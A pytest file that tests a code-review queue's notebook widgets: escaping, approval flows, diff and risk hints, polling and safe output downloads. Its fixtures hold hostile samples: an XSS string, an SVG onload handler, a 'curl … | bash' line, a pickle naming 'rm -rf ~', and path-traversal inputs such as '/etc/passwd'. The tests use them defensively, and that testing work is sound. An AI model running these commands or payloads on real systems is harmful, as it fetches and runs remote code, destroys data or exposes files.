"""The widgets' Python side: the same server API behind the buttons, escaped static HTML,
the file viewer, and polling that stops. Their front end is tested in a real browser in
tests/browser/."""

from __future__ import annotations

import html
import re
import sys
import time
from pathlib import Path

import pytest

import syft_code_queue as scq
from syft_code_queue import JobStatus
from syft_code_queue.models import JobList
from syft_code_queue.widgets.viewer import MAX_VIEW_BYTES, file_view
from tests.conftest import DO_EMAIL, make_package, run_until

HOSTILE = '<img src=x onerror="alert(1)">'


def submit(ds: scq.CodeQueueClient, tmp_path: Path, name: str = "job", **files: str) -> scq.CodeJob:
    folder = make_package(tmp_path / f"pkg-{time.monotonic_ns()}", "echo hi\n", files)
    return ds.submit_code(DO_EMAIL, folder, name=name, tags=["t"])


def wait_for(condition: object, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():  # type: ignore[operator]
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.02)


def test_static_html_escapes_every_user_supplied_value(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    folder = make_package(tmp_path / "pkg")
    ds.submit_code(DO_EMAIL, folder, name=HOSTILE, description=HOSTILE, tags=[HOSTILE])
    [job] = do.list_pending_jobs()
    do.reject_job(job.uid, HOSTILE)
    for shown in (do.list_jobs()._repr_html_(), ds.list_jobs()._repr_html_(), job._repr_html_()):
        assert "<img" not in shown
        assert html.escape(HOSTILE) in shown
    assert "<img" not in ds.list_jobs()._repr_html_()


def test_listings_are_plain_lists_that_know_their_widget(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path)
    pending = do.list_pending_jobs()
    assert isinstance(pending, JobList)
    assert pending == [do.get_job(job.uid)]
    assert pending.live == do.review_widget
    assert ds.list_jobs().live == ds.status_widget


def test_outside_a_kernel_a_listing_shows_as_static_html(
    ds: scq.CodeQueueClient, tmp_path: Path
) -> None:
    submit(ds, tmp_path)
    bundle = ds.list_jobs()._repr_mimebundle_()
    assert set(bundle) == {"text/plain", "text/html"}


def uids(widget: object) -> list[str]:
    return [row["uid"] for row in widget.rows]  # type: ignore[attr-defined]


def read_all(widget: object, uid: str) -> None:
    """Open a job and every one of its files, as a reviewer reading it all would."""
    widget.open_job(uid)  # type: ignore[attr-defined]
    for entry in widget.detail["files"]:  # type: ignore[attr-defined]
        widget.open_file(uid, entry["path"])  # type: ignore[attr-defined]


def test_review_buttons_approve_and_reject_through_the_server_api(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    a, b, c = (submit(ds, tmp_path, name) for name in "abc")
    widget = do.review_widget()
    try:
        assert uids(widget) == [str(a.uid), str(b.uid), str(c.uid)]
        read_all(widget, str(a.uid))
        widget._on_message(widget, {"action": "approve", "uids": [str(a.uid)]}, None)
        widget._on_message(
            widget, {"action": "reject", "uids": [str(b.uid), str(c.uid)], "reason": "no"}, None
        )
        widget.wait_idle()
        assert do.get_job(a.uid).status is JobStatus.approved
        assert do.get_job(a.uid).reviewer == DO_EMAIL
        assert do.get_job(a.uid).decision_reason is None
        assert do.get_job(b.uid).status is JobStatus.rejected
        assert do.get_job(c.uid).error_message == "no"
        assert uids(widget) == []  # the pending page is empty now
        assert widget.counts == {"approved": 1, "rejected": 2}
    finally:
        widget.close()


def test_an_approval_note_is_separate_and_never_a_rejection_reason(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    a, b = submit(ds, tmp_path, "a"), submit(ds, tmp_path, "b")
    widget = do.review_widget()
    try:
        read_all(widget, str(a.uid))
        read_all(widget, str(b.uid))
        # What the browser sends: a rejection's reason and an approval's optional note.
        widget._on_message(
            widget, {"action": "reject", "uids": [str(a.uid)], "reason": "Row-level export"}, None
        )
        widget._on_message(
            widget,
            {"action": "approve", "uids": [str(b.uid)], "reason": "Row-level export"},
            None,
        )
        widget.wait_idle()
        assert do.get_job(b.uid).status is JobStatus.approved
        assert do.get_job(b.uid).decision_reason is None  # a "reason" is no approval note
        c = submit(ds, tmp_path, "c")
        widget.refresh()
        read_all(widget, str(c.uid))
        widget.approve([str(c.uid)], note="aggregates only")
        approved = do.get_job(c.uid)
        assert (approved.approval_note, approved.decision_reason) == ("aggregates only", None)
    finally:
        widget.close()


def test_approving_what_was_not_read_needs_an_explicit_confirmation(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path, "weights", **{"analyze.py": "print(1)\n"})
    widget = do.review_widget()
    uid = str(job.uid)
    try:
        assert widget.rows[0]["unread"] is True
        widget.approve([uid])
        assert do.get_job(uid).status is JobStatus.pending
        assert widget.notice["kind"] == "unread"
        assert widget.notice["uids"] == [uid]
        widget.open_job(uid)  # opens run.sh first, which counts as viewed
        assert widget.file["path"] == "run.sh"
        assert widget.unread(uid) == ["not viewed: analyze.py"]
        widget.approve([uid])
        assert do.get_job(uid).status is JobStatus.pending
        widget.approve([uid], note="looked at run.sh", unread=True)
        approved = do.get_job(uid)
        assert approved.status is JobStatus.approved
        # The note and what was not read stay with the owner; nothing goes to the requester.
        assert approved.decision_reason is None
        assert approved.approval_note == "looked at run.sh"
        assert approved.approved_unread == ("analyze.py",)
    finally:
        widget.close()


def test_binary_and_large_files_always_need_the_unread_confirmation(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    import pickle

    folder = make_package(tmp_path / "pkg", "python -c 'print(1)'\n")
    (folder / "model.pkl").write_bytes(pickle.dumps({"w": [1.0, 2.0]}))
    (folder / "big.csv").write_text("a,b\n" * (MAX_VIEW_BYTES // 4 + 10))
    job = ds.submit_code(DO_EMAIL, folder, name="weights")
    uid = str(job.uid)
    widget = do.review_widget()
    try:
        read_all(widget, uid)
        assert widget.unread(uid) == [
            "big.csv is too large to show whole",
            "model.pkl is a pickle (loading it can run code)",
        ]
        assert widget.rows[0]["risky"] == ["big.csv", "model.pkl"]
        widget.approve([uid])
        assert do.get_job(uid).status is JobStatus.pending
    finally:
        widget.close()


def test_a_big_file_shows_its_true_size_and_line_count(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    text = "".join(f"{i},{i * 2},some text\n" for i in range(33_154))
    assert len(text) > MAX_VIEW_BYTES
    job = submit(ds, tmp_path, "big", **{"data.csv": text})
    widget = do.review_widget()
    try:
        widget.open_job(str(job.uid))
        widget.open_file(str(job.uid), "data.csv")
        assert widget.file["lines"] == 33_154
        assert widget.file["size"] == len(text)
        assert widget.file["truncated"] is True
        assert widget.file["shown_lines"] < 33_154
    finally:
        widget.close()


def test_reject_without_a_reason_changes_nothing_and_says_why(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path)
    widget = do.review_widget()
    try:
        widget.reject([str(job.uid)], "  ")
        assert do.get_job(job.uid).status is JobStatus.pending
        assert widget.notice["kind"] == "error"
        assert "reason" in widget.notice["text"]
    finally:
        widget.close()


def test_bulk_approval_reports_the_jobs_it_could_not_approve(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    a, b = submit(ds, tmp_path, "a"), submit(ds, tmp_path, "b")
    do.reject_job(b.uid, "no")
    widget = do.review_widget()
    try:
        widget.approve([str(a.uid), str(b.uid)], unread=True)
        assert do.get_job(a.uid).status is JobStatus.approved
        assert widget.notice["kind"] == "error"
        assert "approved 1" in widget.notice["text"]
    finally:
        widget.close()


def test_opening_a_job_shows_its_snapshot_files_and_history(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path, "j", **{"src/analyze.py": "print('<b>x</b>')\n"})
    widget = do.review_widget()
    try:
        widget._on_message(widget, {"action": "open", "uid": str(job.uid)}, None)
        widget.wait_idle()
        assert [f["path"] for f in widget.detail["files"]] == ["run.sh", "src/analyze.py"]
        assert widget.detail["code_hash"] == job.code_hash
        assert [e["status"] for e in widget.detail["events"]] == ["pending"]
        assert widget.detail["guarantees"] == do.guarantees().model_dump()
        widget._on_message(
            widget, {"action": "file", "uid": str(job.uid), "path": "src/analyze.py"}, None
        )
        widget.wait_idle()
        assert widget.file["text"] == "print('<b>x</b>')\n"
        assert "<b>" not in widget.file["html"]
        assert "&lt;b&gt;" in widget.file["html"]
        assert widget.detail["viewed"] == ["run.sh", "src/analyze.py"]
        widget._on_message(widget, {"action": "file", "uid": str(job.uid), "path": "nope"}, None)
        widget.wait_idle()
        assert widget.notice["kind"] == "error"
    finally:
        widget.close()


def test_a_click_never_waits_for_the_kernels_main_thread(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    """Work asked for by the browser runs in the widget's worker thread."""
    import threading

    from syft_code_queue.widgets.source import ReviewSource

    job = submit(ds, tmp_path)
    release = threading.Event()
    threads: list[str] = []

    class SlowSource(ReviewSource):
        def read(self, uid: str, path: str) -> bytes:
            threads.append(threading.current_thread().name)
            release.wait(10)
            return super().read(uid, path)

    from syft_code_queue.widgets.review import ReviewWidget

    widget = ReviewWidget(do, source=SlowSource(do))
    try:
        started = time.monotonic()
        widget._on_message(widget, {"action": "open", "uid": str(job.uid)}, None)
        assert time.monotonic() - started < 1.0
        release.set()
        widget.wait_idle()
        assert threads and all(name.startswith("scq-review") for name in threads)
        assert widget.file["path"] == "run.sh"
    finally:
        widget.close()


def test_the_review_table_pages_sorts_and_searches_on_the_python_side(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    jobs = [submit(ds, tmp_path, f"job {i:02d}") for i in range(7)]
    widget = do.review_widget()
    try:
        widget.view = {**widget.view, "limit": 3}
        widget.wait_idle()
        assert [row["name"] for row in widget.rows] == ["job 00", "job 01", "job 02"]
        assert widget.total == 7
        widget.view = {**widget.view, "offset": 3, "sort": "name", "desc": True}
        widget.wait_idle()
        assert [row["name"] for row in widget.rows] == ["job 03", "job 02", "job 01"]
        widget.view = {**widget.view, "offset": 0, "query": "JOB 05"}
        widget.wait_idle()
        assert uids(widget) == [str(jobs[5].uid)]
        assert widget.total == 1
        widget.view = {**widget.view, "query": "100%_"}
        widget.wait_idle()
        assert widget.rows == []
    finally:
        widget.close()


def test_the_review_table_follows_new_arrivals(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    widget = do.review_widget(interval=0.05)
    try:
        assert widget.rows == []
        job = submit(ds, tmp_path)
        wait_for(lambda: uids(widget) == [str(job.uid)])
    finally:
        widget.close()
    assert not widget._watch.poller.running


def test_one_poller_per_server_stopped_with_its_last_widget(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    """Each display of list_pending_jobs() made a widget with its own poller, never stopped."""
    import threading

    def pollers() -> int:
        return sum(t.name.startswith("scq-review") and t.is_alive() for t in threading.enumerate())

    before = pollers()
    first, second = do.review_widget(interval=0.05), do.review_widget(interval=0.05)
    try:
        assert pollers() - before == 1
    finally:
        first.close()
        assert pollers() - before == 1
        second.close()
    wait_for(lambda: pollers() == before)


def test_a_table_whose_views_were_all_removed_stops_following_the_server(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    """A table shown by list_pending_jobs() stayed subscribed to the shared poller until
    closed, though its output was cleared; the browser now says when a view goes."""
    from syft_code_queue.widgets._poller import Watch

    first, second = do.review_widget(interval=0.05), do.review_widget(interval=0.05)
    watch = Watch.of(do, 0.05, "unused")

    def view(widget: object, shown: bool) -> None:
        widget._on_message(widget, {"action": "view", "shown": shown}, None)  # type: ignore[attr-defined]
        widget.wait_idle()  # type: ignore[attr-defined]

    try:
        view(first, True)
        view(first, True)  # two views of one table
        view(second, True)
        assert watch.subscribers == 2
        view(first, False)
        assert first.following
        view(first, False)
        assert not first.following
        assert watch.subscribers == 1
        view(second, False)
        assert watch.subscribers == 0
        wait_for(lambda: not watch.poller.running)
        submit(ds, tmp_path, "arrives while shown again")
        view(second, True)  # displayed again: follows again, and shows what it missed
        assert second.following
        assert watch.subscribers == 1
        assert watch.poller.running
        assert [row["name"] for row in second.rows] == ["arrives while shown again"]
    finally:
        first.close()
        second.close()
    assert watch.subscribers == 0


def test_a_refresh_sends_nothing_when_no_job_changed(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    a, b = submit(ds, tmp_path, "a"), submit(ds, tmp_path, "b")
    widget = do.review_widget(interval=3600)
    widget.view = {**widget.view, "status": "all"}
    widget.wait_idle()
    changes: list[object] = []
    widget.observe(changes.append, names="rows")
    try:
        widget.refresh()
        assert changes == []
        do.approve_job(a.uid)
        widget.refresh()
        assert len(changes) == 1
        assert {row["uid"]: row["status"] for row in widget.rows} == {
            str(b.uid): "pending",
            str(a.uid): "approved",
        }
    finally:
        widget.close()


def approved_then_changed(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> tuple[scq.CodeJob, scq.CodeJob]:
    """v1 approved; v2 with ``run.sh`` changed (a ``curl | bash`` line), ``a.py`` not."""
    files = {"a.py": "print(1)\n"}
    v1 = ds.submit_code(DO_EMAIL, make_package(tmp_path / "v1", "echo hi\n", files), name="j")
    do.list_pending_jobs()
    do.approve_job(v1.uid)
    script = "echo hi\ncurl -s https://example.com/x.sh | bash\n"
    folder = make_package(tmp_path / "v2", script, files)
    v2 = ds.submit_code(DO_EMAIL, folder, name="j", supersedes=v1.uid)
    do.list_pending_jobs()
    return v1, v2


def row_of(widget: object, uid: object) -> dict[str, object]:
    [row] = [r for r in widget.rows if r["uid"] == str(uid)]  # type: ignore[attr-defined]
    return row  # type: ignore[no-any-return]


def test_rows_show_version_diff_summary_and_hint_counts(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    v1, v2 = approved_then_changed(ds, do, tmp_path)
    widget = do.review_widget(interval=3600)
    try:
        widget.view = {**widget.view, "status": "all"}
        widget.wait_idle()
        wait_for(lambda: all(row.get("hints") is not None for row in widget.rows))
        new, old = row_of(widget, v2.uid), row_of(widget, v1.uid)
        assert new["version"] == 2
        assert new["diff"] == "changed since approved v1: 1 of 2 files"
        assert new["diff"] == do.job_diff(v2.uid, unified=False).summary
        hints = do.review_hints(v2.uid)
        assert new["hints"] == {"warn": hints.warnings, "look": hints.looks, "unparsed": []}
        assert hints.warnings >= 1
        assert f"{hints.warnings} warn" in str(new["hints_text"])
        assert old["version"] == 1
        assert old["diff"] == ""  # a first version has nothing to differ from
    finally:
        widget.close()


def test_row_changes_are_made_in_the_worker_for_the_shown_page_only(
    ds: scq.CodeQueueClient,
    do: scq.CodeQueueServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import threading

    from syft_code_queue.widgets import review
    from syft_code_queue.widgets.source import ReviewSource

    jobs = [submit(ds, tmp_path, f"job {i}") for i in range(3)]
    asked: list[tuple[str, str]] = []

    class Watched(ReviewSource):
        def hints(self, uid: str) -> scq.ReviewHints:
            asked.append((uid, threading.current_thread().name))
            return super().hints(uid)

    monkeypatch.setattr(review, "DEFAULT_VIEW", {**review.DEFAULT_VIEW, "limit": 2})
    widget = review.ReviewWidget(do, interval=3600, source=Watched(do))
    try:
        widget.wait_idle()
        assert sorted(uid for uid, _ in asked) == sorted(str(j.uid) for j in jobs[:2])
        assert all(name.startswith("scq-review") for _, name in asked)
        widget.refresh()
        widget.wait_idle()
        assert len(asked) == 2  # cached by (uid, code hash)
        widget.view = {**widget.view, "offset": 2}
        widget.wait_idle()
        assert [uid for uid, _ in asked[2:]] == [str(jobs[2].uid)]
    finally:
        widget.close()


def test_row_changes_that_show_nothing_new_are_not_sent_again(
    ds: scq.CodeQueueClient,
    do: scq.CodeQueueServer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A row whose diff and hints turn out to be nothing (here: hints cannot be made) is
    sent once, with the page: at 100,000 jobs each extra send of the page cost time."""
    from syft_code_queue.errors import CodeQueueError
    from syft_code_queue.widgets import review
    from syft_code_queue.widgets.source import ReviewSource

    for i in range(3):
        submit(ds, tmp_path, f"job {i}")

    class NoHints(ReviewSource):
        def hints(self, uid: str) -> scq.ReviewHints:
            raise CodeQueueError("no snapshot")

    monkeypatch.setattr(review, "DEFAULT_VIEW", {**review.DEFAULT_VIEW, "limit": 2})
    widget = review.ReviewWidget(do, interval=3600, source=NoHints(do))
    try:
        widget.wait_idle()
        sent: list[list[dict[str, object]]] = []
        widget.observe(lambda change: sent.append(change["new"]), names="rows")
        widget.view = {**widget.view, "offset": 1}  # the third job is new on this page
        widget.wait_idle()
        assert len(sent) == 1, sent
        assert all(row["hints"] is None and row["hints_text"] == "" for row in widget.rows)
    finally:
        widget.close()


def test_a_decision_leaves_the_pending_page_before_the_page_is_read_again(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    """Approve -> row updated: the row goes as soon as the ledger has the decision; the
    page read that follows (at 100,000 jobs: the per-status counts) only fills it up."""
    from syft_code_queue.widgets import review
    from syft_code_queue.widgets.source import Page, PageQuery, ReviewSource

    a, b = submit(ds, tmp_path, "a"), submit(ds, tmp_path, "b")
    shown_when_read: list[bool] = []
    holder: dict[str, review.ReviewWidget] = {}

    class Watched(ReviewSource):
        def page(self, query: PageQuery) -> Page:
            if "widget" in holder:
                shown_when_read.append(str(a.uid) in uids(holder["widget"]))
            return super().page(query)

    widget = review.ReviewWidget(do, interval=3600, source=Watched(do))
    try:
        widget.wait_idle()
        read_all(widget, str(a.uid))
        holder["widget"] = widget
        widget.approve([str(a.uid)])
        assert shown_when_read == [False]
        assert uids(widget) == [str(b.uid)]
        assert do.get_job(a.uid).status is JobStatus.approved
        widget.view = {**widget.view, "status": "all"}
        widget.wait_idle()
        shown_when_read.clear()
        widget.reject([str(b.uid)], "no")
        assert shown_when_read == [True]  # "all" shows it, with its new status at once
        assert {r["uid"]: r["status"] for r in widget.rows}[str(b.uid)] == "rejected"
    finally:
        widget.close()


def test_opening_a_new_version_shows_its_diff_first(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    v1, v2 = approved_then_changed(ds, do, tmp_path)
    widget = do.review_widget(interval=3600)
    try:
        widget.open_job(str(v2.uid))
        detail = widget.detail
        assert detail["mode"] == "diff"
        assert detail["version"] == 2
        assert detail["diff"]["summary"] == "changed since approved v1: 1 of 2 files"
        first, second = detail["diff"]["files"]
        assert (first["path"], first["change"]) == ("run.sh", "changed")
        assert "+curl -s https://example.com/x.sh | bash" in first["diff"]
        assert (second["path"], second["change"]) == ("a.py", "unchanged")
        assert {f["path"]: f["change"] for f in detail["files"]} == {
            "run.sh": "changed",
            "a.py": "unchanged",
        }
        assert widget.file == {}  # no file opened (nor ticked viewed) behind the diff
        widget.open_job(str(v1.uid))
        assert widget.detail["mode"] == "files"  # a first version has no diff view
        assert widget.detail["diff"] is None
        assert widget.file["path"] == "run.sh"
    finally:
        widget.close()


def test_hints_reach_the_file_view_and_the_file_list(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    _, v2 = approved_then_changed(ds, do, tmp_path)
    widget = do.review_widget(interval=3600)
    try:
        widget.open_job(str(v2.uid))
        by_path = {f["path"]: f["hints"] for f in widget.detail["files"]}
        assert by_path["run.sh"]["warn"] >= 1
        assert by_path["a.py"] == {"warn": 0, "look": 0, "unparsed": []}
        widget.open_file(str(v2.uid), "run.sh")
        flagged = [h for h in widget.file["hints"] if h["kind"] == "pipe_to_shell"]
        assert [h["line"] for h in flagged] == [4]  # after make_package's two lines
        assert flagged[0]["severity"] == "warn"
        assert flagged[0]["message"]
        assert "curl" in flagged[0]["text"]
    finally:
        widget.close()


def test_code_that_cannot_be_parsed_says_review_manually(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path, "broken", **{"bad.py": "def (:\n"})
    widget = do.review_widget(interval=3600)
    try:
        widget.wait_idle()
        wait_for(lambda: row_of(widget, job.uid).get("hints") is not None)
        row = row_of(widget, job.uid)
        assert row["hints"]["unparsed"] == ["bad.py"]  # type: ignore[index]
        assert "review manually" in str(row["hints_text"])
        widget.open_job(str(job.uid))
        widget.open_file(str(job.uid), "bad.py")
        assert any(h["message"].startswith("review manually") for h in widget.file["hints"])
    finally:
        widget.close()


def test_the_widget_styles_are_scoped_and_take_the_themes_colours() -> None:
    """Pygments' page-wide CSS (pre, td.linenos) and fixed colours broke dark themes."""
    from syft_code_queue.widgets.review import ReviewWidget
    from syft_code_queue.widgets.status import JobStatusWidget

    for css in (ReviewWidget._css, JobStatusWidget._css):
        text = css.read_text() if isinstance(css, Path) else str(css)
        text = re.sub(r"/\*.*?\*/", "", text, flags=re.S)
        for rule in re.findall(r"([^{}]+)\{[^{}]*\}", text):
            for selector in rule.split(","):
                assert selector.strip().startswith(".scq-widget"), selector
        # Every colour is a theme variable: without them (a fallback aside) none is left.
        plain = text
        while "var(--jp-" in plain:
            plain = re.sub(r"var\(--jp-[\w-]+(?:, [^()]*)?\)", "", plain)
        assert not re.findall(r"#[0-9a-fA-F]{3,8}\b|rgba?\(|hsla?\(", plain)


def test_file_viewer_handles_binary_large_and_cut_characters() -> None:

    assert file_view("x.bin", b"\x00\x01abc")["binary"] is True
    assert file_view("x.txt", b"\xff\xfe not utf-8")["binary"] is True
    big = ("é" * MAX_VIEW_BYTES).encode()  # the shown part ends inside a character
    view = file_view("x.txt", big)
    assert view["truncated"] is True
    assert view["binary"] is False
    assert view["text"] == "é" * (MAX_VIEW_BYTES // 2)
    small = file_view("run.sh", b"echo a\necho b\n")
    assert (small["lines"], small["truncated"]) == (2, False)
    assert file_view("x", b"a\nb")["lines"] == 2


def test_a_binary_file_shows_its_bytes_and_a_warning() -> None:
    import pickle

    weights = pickle.dumps({"os.system": "rm -rf ~", "w": [1.0]})
    view = file_view("model.pkl", weights)
    assert view["binary"] is True
    assert view["hex"].startswith("00000000  80 0")
    assert any("os.system" in s for s in view["strings"])
    assert "pickle" in view["warning"]
    assert "run any code" in view["warning"]
    assert "pickle" not in file_view("blob.bin", b"\x00" * 10)["warning"]


def test_highlighted_code_is_escaped_lines_of_short_token_classes() -> None:
    view = file_view("a.py", b"rows = []  # <b>\nprint('x')\n")
    html_lines = view["html"].splitlines()
    assert len(html_lines) == 2
    assert all(line.startswith('<span class="scq-line">') for line in html_lines)
    assert '<span class="t-com"># &lt;b&gt;</span>' in view["html"]
    assert '<span class="t-str">' in view["html"]
    assert "style=" not in view["html"]


def test_status_cell_follows_a_job_until_it_ends_then_stops(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path, **{"x.sh": "echo out > $OUTPUT_DIR/result.txt\n"})
    widget = ds.status_widget(job.uid, interval=0.05)
    try:
        assert widget.watching is True
        assert widget.jobs[0]["status"] == "pending"
        do.approve_job(job.uid)
        run_until(do, lambda: do.get_job(job.uid).is_terminal)
        wait_for(lambda: widget.watching is False)
        [row] = widget.jobs
        assert row["status"] == "completed"
        assert row["started_at"] is not None
        assert "hi" in widget.logs[str(job.uid)]
        wait_for(lambda: not widget._poller.running)
    finally:
        widget.close()


def test_status_cell_for_an_ended_job_does_not_poll(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    job = submit(ds, tmp_path)
    do.reject_job(job.uid, "not aggregate")
    widget = ds.status_widget(job.uid)
    try:
        assert widget.jobs[0]["error"] == "not aggregate"
        assert widget.watching is False
        assert not widget._poller.running
    finally:
        widget.close()


def test_status_cell_for_all_jobs_lists_outputs(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    folder = make_package(tmp_path / "pkg", "echo 42 > $OUTPUT_DIR/result.txt\n")
    job = ds.submit_code(DO_EMAIL, folder, name="with output")
    do.approve_job(job.uid)
    run_until(do, lambda: do.get_job(job.uid).is_terminal)
    ds.wait(job.uid, timeout=10)
    widget = ds.status_widget()
    try:
        [row] = widget.jobs
        assert [(o["path"], o["size"]) for o in row["outputs"]] == [("result.txt", 3)]
        assert widget.single is False
    finally:
        widget.close()


def test_status_cell_for_all_jobs_shows_a_job_submitted_later(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    first = submit(ds, tmp_path, "first")
    do.reject_job(first.uid, "no")
    widget = ds.status_widget(interval=0.05, idle_interval=0.05)
    try:
        assert widget.watching is False  # nothing under way: it only looks now and then
        later = submit(ds, tmp_path, "later")
        wait_for(lambda: [row["uid"] for row in widget.jobs] == [str(later.uid), str(first.uid)])
        wait_for(lambda: widget.watching is True)
    finally:
        widget.close()
    assert not widget._poller.running


def test_a_status_cell_with_no_view_left_stops_polling(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    """A cell for all of your jobs looked every few seconds until closed, though its output
    was cleared; with no view left it stops, and a view drawn again follows again."""
    first = submit(ds, tmp_path, "first")
    widget = ds.status_widget(interval=0.05, idle_interval=0.05)

    def view(shown: bool) -> None:
        widget._on_message(widget, {"action": "view", "shown": shown}, None)
        widget.wait_idle()

    try:
        view(True)
        assert widget._poller.running
        view(False)
        assert not widget._poller.running
        later = submit(ds, tmp_path, "later")
        view(True)
        assert widget._poller.running
        assert [row["uid"] for row in widget.jobs] == [str(later.uid), str(first.uid)]
    finally:
        widget.close()


def test_status_cell_keeps_the_log_of_an_ended_job_and_shows_stderr_and_outputs(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    folder = make_package(
        tmp_path / "pkg",
        "echo computing\n"
        "printf 'a,b\\n1,2\\n' > $OUTPUT_DIR/table.csv\n"
        "echo 'Traceback: KeyError age' >&2\n"
        "exit 1\n",
    )
    job = ds.submit_code(DO_EMAIL, folder, name="fails")
    do.approve_job(job.uid)
    run_until(do, lambda: do.get_job(job.uid).is_terminal)
    ds.wait(job.uid, timeout=10)
    widget = ds.status_widget()
    try:
        [row] = widget.jobs
        assert row["status"] == "failed"
        assert "computing" in widget.logs[str(job.uid)]  # the log of an ended job stays
        assert row["stderr"] == "Traceback: KeyError age"
    finally:
        widget.close()


def test_status_cell_lists_outputs_with_sizes_and_previews(tmp_path: Path) -> None:
    import base64

    from syft_code_queue.widgets.outputs import outputs_of

    (tmp_path / "table.csv").write_text("age,n\n40,12\n50,9\n")
    png = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )
    (tmp_path / "plot.png").write_bytes(png)
    (tmp_path / "evil.svg").write_text("<svg onload='alert(1)'/>")
    out = {o["path"]: o for o in outputs_of(tmp_path)}
    assert out["table.csv"]["rows"] == [["age", "n"], ["40", "12"], ["50", "9"]]
    assert out["table.csv"]["size"] == 17
    assert out["plot.png"]["src"].startswith("data:image/png;base64,")
    assert out["evil.svg"]["kind"] == "file"
    assert "src" not in out["evil.svg"]


def test_an_output_is_read_for_download_without_following_links(tmp_path: Path) -> None:
    from syft_code_queue.widgets.outputs import media_type, read_output

    (tmp_path / "tables").mkdir()
    (tmp_path / "tables" / "by_age.csv").write_bytes(b"age,n\n40,12\n")
    (tmp_path / "secret.txt").write_text("the owner's")
    outputs = tmp_path / "out"
    outputs.mkdir()
    (outputs / "plot.png").write_bytes(bytes(range(256)))
    (outputs / "link.txt").symlink_to(tmp_path / "secret.txt")
    (outputs / "tables").symlink_to(tmp_path / "tables")
    assert read_output(outputs, "plot.png") == bytes(range(256))
    assert media_type("plot.png") == "image/png"
    assert media_type("data.parquet") == "application/octet-stream"
    assert read_output(tmp_path, "tables/by_age.csv") == b"age,n\n40,12\n"
    for refused in ("link.txt", "tables/by_age.csv"):
        with pytest.raises(OSError):
            read_output(outputs, refused)
    for bad in ("../secret.txt", "/etc/passwd", "", "tables/../../secret.txt"):
        with pytest.raises(ValueError):
            read_output(outputs, bad)
    with pytest.raises(OSError):
        read_output(outputs, "plot.png", limit=10)


def test_status_cell_downloads_only_outputs_of_the_jobs_it_shows(
    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
) -> None:
    from syft_code_queue.errors import JobNotFoundError

    folder = make_package(tmp_path / "pkg", "printf 'a,b\\n1,2\\n' > $OUTPUT_DIR/table.csv\n")
    job = ds.submit_code(DO_EMAIL, folder, name="outputs")
    other = ds.submit_code(DO_EMAIL, folder, name="other")
    do.approve_job(job.uid)
    run_until(do, lambda: do.get_job(job.uid).is_terminal)
    ds.wait(job.uid, timeout=10)
    widget = ds.status_widget(job.uid)
    sent: list[tuple[dict[str, object], list[bytes]]] = []
    widget.send = lambda content, buffers=None: sent.append((content, list(buffers or [])))  # type: ignore[method-assign]
    try:
        data, kind = widget.download(str(job.uid), "table.csv")
        assert data == b"a,b\n1,2\n"
        assert kind == "text/csv"
        with pytest.raises(JobNotFoundError):
            widget.download(str(other.uid), "table.csv")
        for path in ("table.csv", "../status.json"):
            widget._on_message(
                widget,
                {"action": "download", "uid": str(job.uid), "path": path, "request": 7},
                None,
            )
        widget.wait_idle()
        (ok, buffers), (refused, none) = sent
        assert ok == {
            "kind": "download",
            "request": 7,
            "path": "table.csv",
            "ok": True,
            "type": "text/csv",
            "size": 8,
        }
        assert buffers == [b"a,b\n1,2\n"]
        assert refused["ok"] is False
        assert "../status.json cannot be downloaded" in str(refused["error"])
        assert none == []
    finally:
        widget.close()


